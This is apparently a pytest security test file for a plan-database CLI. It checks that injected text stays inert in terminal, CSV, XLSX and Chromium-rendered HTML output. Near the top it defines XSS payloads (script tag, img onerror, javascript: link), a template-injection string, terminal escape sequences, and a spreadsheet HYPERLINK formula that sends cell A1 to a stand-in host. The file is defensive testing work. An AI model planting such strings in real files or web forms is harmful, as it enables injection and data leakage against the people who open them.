"""Hostile text inside a plan (issue 14) — markup, script, javascript: links, template braces,
spreadsheet formulas, terminal escape sequences in a title, an agency's name and a task — is
inert in every output: the terminal table, CSV, XLSX and the HTML page run in Chromium."""

import csv
import io
import re

import pytest
from click.testing import CliRunner

from plangraph.cli import main

from .conftest import SEEDS
from .test_render import CHROMIUM, browser_dom, drawn, external_references

SCRIPT = "<script>document.body.setAttribute('data-pwned','script')</script>"
IMG = "\"><img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">"
LINK = "<a href=\"javascript:document.body.setAttribute('data-pwned','link')\">xem</a>"
TEMPLATE = "{{constructor.constructor('document.body.dataset.pwned=1')()}} ${7*7}"
FORMULA = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"bấm\")"
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mđỏ\x1b[0m\u202egnp.exe"
PAYLOAD = " ".join([SCRIPT, IMG, LINK, TEMPLATE, ESCAPES])


def plangraph(*args):
    return CliRunner().invoke(main, [*map(str, args)])


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    """The table plan with hostile text in its title, in a task and in a supporting agency."""
    root = tmp_path_factory.mktemp("hostile")
    lines = SEEDS["tq2024_table"].read_text(encoding="utf-8").split("\n")
    title = next(i for i, ln in enumerate(lines) if ln.startswith("CHƯƠNG TRÌNH"))
    lines[title] += " " + SCRIPT
    row = next(i for i, ln in enumerate(lines) if ln.startswith("1\t"))
    cells = lines[row].split("\t")
    cells[1] = f"{FORMULA} {PAYLOAD} {cells[1]}"
    cells[3] = f"@SUM(1+1) {IMG}, {cells[3]}"
    lines[row] = "\t".join(cells)
    doc = root / "hostile.txt"
    doc.write_text("\n".join(lines), encoding="utf-8")
    db = root / "g.lbdb"
    result = plangraph("--db", db, "ingest", doc)
    assert result.exit_code == 0, result.output
    return root, db


ASK = ["query", "nghia_vu_co_quan", "-p", "co_quan=cong an tinh"]


def test_the_payload_reached_the_store(hostile_db):
    _, db = hostile_db
    result = plangraph("--db", db, *ASK, "--format", "json")
    assert "onerror" in result.stdout and "javascript:" in result.stdout


def test_the_terminal_table_has_no_control_characters(hostile_db):
    _, db = hostile_db
    result = plangraph("--db", db, *ASK, "--wide")
    assert result.exit_code == 0, result.output
    assert "đỏ" in result.stdout
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
                         result.stdout)


def test_csv_cells_are_never_formulas(hostile_db):
    _, db = hostile_db
    result = plangraph("--db", db, *ASK, "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not [c for c in cells if "\x1b" in c]


def formula_cells(cells):
    """Cells a spreadsheet would run: a formula sign first, spaces before it are skipped."""
    return [c for c in cells
            if c[:1] in ("\t", "\r") or c.lstrip(" \t\r\n\u00a0")[:1] in ("=", "+", "-", "@")]


def test_exported_csv_tables_are_never_formulas(hostile_db):
    root, db = hostile_db
    out = root / "bang"
    result = plangraph("--db", db, "export", "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    cells = [c for path in sorted(out.glob("*.csv"))
             for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row]
    assert any(c.lstrip("'").startswith("=HYPERLINK") for c in cells)  # the task text
    assert formula_cells(cells) == []
    assert not [c for c in cells if "\x1b" in c or "\u202e" in c]


@pytest.mark.parametrize("text", ["=1+1", " =1+1", "\t=1+1", "  @SUM(A1)", "\u00a0+1-1",
                                  "-HYPERLINK(\"x\")", "＝1+1"])
def test_a_formula_after_leading_spaces_is_neutralised(text):
    from plangraph.queries.output import sanitize_cell

    for target in ("csv", "xlsx"):
        assert sanitize_cell(text, target).startswith("'")
    assert sanitize_cell(" -12,5", "csv") == " -12,5"  # a plain number stays a number


def test_xlsx_cells_are_text_never_formulas(hostile_db):
    from openpyxl import load_workbook

    root, db = hostile_db
    out = root / "ket-qua.xlsx"
    result = plangraph("--db", db, *ASK, "-o", out)
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    values = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert any("HYPERLINK" in str(c.value) for c in values)
    assert not [c for c in values if c.data_type == "f"]
    assert not [c for c in values if isinstance(c.value, str) and c.value[:1] in "=+-@"]


@pytest.mark.skipif(CHROMIUM is None, reason="chromium not installed (apt-get install chromium)")
@pytest.mark.parametrize("query", [ASK, ["query", "chu_tri_nhieu_nhat", "-p", "tap_the=co"]])
def test_the_html_page_stays_inert_in_chromium(hostile_db, tmp_path, query):
    _, db = hostile_db
    page = tmp_path / "trang.html"
    result = plangraph("--db", db, *query, "--html", page)
    assert result.exit_code == 0, result.output
    html = page.read_text(encoding="utf-8")
    assert external_references(html) == []
    assert "<script>document" not in html and "<img src=x" not in html
    assert 'href="javascript:' not in html
    dom = browser_dom(page, tmp_path)
    assert drawn(dom), dom[-2000:]
    assert "data-pwned" not in re.search(r"<body[^>]*>", dom)[0]  # no script ran
    assert not re.search(r"<img[^>]*src=\"?x", dom)  # no element was made of the text
    assert not re.search(r"<a[^>]*href=\"javascript:", dom)
